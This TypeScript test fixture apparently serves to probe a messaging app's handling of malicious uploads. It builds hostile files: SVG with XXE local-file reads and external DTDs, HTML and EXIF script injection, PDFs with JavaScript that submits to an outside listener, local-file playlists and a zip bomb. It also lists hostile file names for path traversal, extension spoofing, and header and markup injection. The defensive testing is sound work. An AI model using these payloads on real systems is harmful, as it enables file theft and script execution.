// Files and file names as attacks on whoever looks into them, opens or saves them.
import type { Claims } from '../sim'
import { commented, gifOf, gifScript, latin, mp4Elsewhere, pdfOf, pngOf, sample, zipBomb } from './bytes'

/** A file, and what becomes of it. */
export interface HostileFile {
  /** What it is called here, and by payloads that are carried out. */
  trick: string
  claims: Claims
  bytes: Buffer
  /** May be shown in a page: by itself or in a form that was made of it. */
  shown?: boolean
  /** What its row has to say about it. */
  says?: RegExp
}

/** Where files lead that name something outside them: a listener and a file of ours. */
export interface Outside {
  web: string
  path: string
}

const file = (name: string): Claims => ({ kind: 'file', name })
const run = (what: string) => `window.ran&&ran('${what}');if(typeof alert=='function')alert('${what}')`
const page = (what: string, { web }: Outside) =>
  `<!doctype html><html><body><script>${run(what)}</script><img src="${web}/${what}.png" onerror="${run(what)}"><iframe src="${web}/${what}"></iframe></body></html>`

function svg(what: string, { web, path }: Outside): Buffer {
  const links = [`${web}/${what}.png`, `file://${path}`].map((href) => `<image href="${href}" xlink:href="${href}" width="9" height="9"/>`).join('')
  return Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${path}"><!ENTITY y SYSTEM "${web}/${what}.dtd">]>` +
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="${run(what)}">` +
      `<script>${run(what)}</script><text>&x;&y;</text>${links}</svg>`,
  )
}

function playlist({ web, path }: Outside): Buffer {
  return latin(`#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${web}/playlist.ts\n#EXTINF:9,\nfile://${path}\n#EXTINF:9,\n${path}\n#EXTINF:9,\nconcat:${path}|${path}\n#EXT-X-ENDLIST\n`)
}

function scriptedPDF({ web, path }: Outside): Buffer {
  const script = `/S/JavaScript/JS(app.alert\\('pdf'\\);this.submitForm\\('${web}/pdf'\\))`
  return pdfOf(
    `/OpenAction<<${script}>>/AA<</WC<<${script}>>>>/Names<</JavaScript<</Names[(a)<<${script}>>]>>>>`,
    `/MediaBox[0 0 14400000 14400000]/AA<</O<</S/URI/URI(${web}/page)>>>>/Contents 4 0 R/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(${path})>>>>]`,
    `<</Length 0/F<</FS/URL/F(${web}/stream)>>>>\nstream\n\nendstream`,
  )
}

/** Pictures, sounds and documents that are none, or more than that. */
export function hostileFiles(outside: Outside): HostileFile[] {
  const markup = page('html', outside)
  const mp4 = sample('video-landscape.mp4')
  const amr = sample('voice-nb-1.amr')
  const picture = pngOf(40, 40)
  return [
    { trick: 'svg picture', claims: { kind: 'image' }, bytes: svg('svg picture', outside), says: /仅原始文件|无法显示/ },
    { trick: 'svg file', claims: file('logo.svg'), bytes: svg('svg file', outside) },
    { trick: 'html picture', claims: { kind: 'image' }, bytes: Buffer.from(markup), says: /仅原始文件|无法显示/ },
    { trick: 'html png', claims: file('photo.png'), bytes: Buffer.from(markup) },
    { trick: 'html', claims: file('page.html'), bytes: Buffer.from(markup) },
    { trick: 'script', claims: file('run.js'), bytes: latin(run('script')) },
    { trick: 'png and script', claims: { kind: 'image' }, bytes: Buffer.concat([picture, latin(`\n${run('png')}\n${markup}`)]), shown: true },
    { trick: 'gif and script', claims: file('gif.js'), bytes: gifScript(run('gif')) },
    { trick: 'pdf and html', claims: file('both.pdf'), bytes: Buffer.concat([latin('%PDF-1.4\n%'), Buffer.from(markup), pdfOf('', '/MediaBox[0 0 99 99]').subarray(9)]) },
    { trick: 'ten thousand frames', claims: { kind: 'image' }, bytes: gifOf(10_000, 2000, `<script>${run('frames')}</script>`), shown: true },
    { trick: 'ten thousand frames, sticker', claims: { kind: 'emotion' }, bytes: gifOf(10_001, 2000, ''), shown: true },
    { trick: 'huge picture', claims: { kind: 'image' }, bytes: pngOf(50_000, 50_000), says: /仅原始文件|无法显示/ },
    { trick: 'zip bomb', claims: file('contract.docx'), bytes: zipBomb(['[Content_Types].xml', 'word/document.xml'], 500) },
    { trick: 'pdf with script', claims: file('invoice.pdf'), bytes: scriptedPDF(outside) },
    { trick: 'playlist', claims: { kind: 'video' }, bytes: playlist(outside), says: /仅原始文件|无法播放/ },
    { trick: 'playlist file', claims: file('film.mp4'), bytes: playlist(outside) },
    { trick: 'list of files', claims: { kind: 'video' }, bytes: latin(`ffconcat version 1.0\nfile '${outside.path}'\nfile '${outside.web}/concat.ts'\n`), says: /仅原始文件|无法播放/ },
    { trick: 'mp4 elsewhere', claims: { kind: 'video' }, bytes: mp4Elsewhere(mp4, `${outside.web}/elsewhere.mp4`), shown: true },
    { trick: 'mp4 in a file', claims: { kind: 'video' }, bytes: mp4Elsewhere(mp4, `file://${outside.path}`), shown: true },
    { trick: 'half a voice', claims: { kind: 'voice' }, bytes: amr.subarray(0, 100), shown: true },
    { trick: 'head of a voice', claims: { kind: 'voice' }, bytes: amr.subarray(0, 6), says: /仅原始文件/ },
    { trick: 'silk', claims: { kind: 'voice' }, bytes: Buffer.concat([latin('\x02#!SILK_V3'), Buffer.alloc(400, 7)]), says: /仅原始文件/ },
    { trick: 'nothing', claims: file('nothing.txt'), bytes: Buffer.alloc(0) },
    { trick: 'no picture', claims: { kind: 'image' }, bytes: Buffer.alloc(0), says: /仅原始文件|无法|未|拒绝/ },
    { trick: 'no md5', claims: { kind: 'image', md5: '' }, bytes: pngOf(41, 41), shown: true },
    { trick: 'wrong size', claims: { ...file('small.bin'), size: '4000000000' }, bytes: Buffer.from('small') },
    { trick: 'turned', claims: { kind: 'image' }, bytes: commented(sample('photo-turned.jpg'), `<script>${run('exif')}</script>`), shown: true },
  ]
}

/** Names that try to be somewhere else, something else, or everything. */
export const hostileNames: Record<string, string> = {
  'out of the folder': '../../etc/passwd',
  'out of the folder of Windows': 'a\\..\\..\\Startup\\b.bat',
  'turned around': 'invoice\u202egpj.exe',
  'another header': 'a.txt\r\nContent-Type: text/html\r\n\r\n<script>ran("name")</script>',
  'endless': `${'名'.repeat(17_000)}.txt`,
  'device': 'CON',
  'device with an ending': 'aux.txt',
  'quotes': '"; filename="evil.exe"; x="\'.txt',
  'markup': '<img src=x onerror=ran("name")>.png',
  'dots': '...',
  'percent': '%2e%2e%2fetc%2fpasswd%00.txt',
}
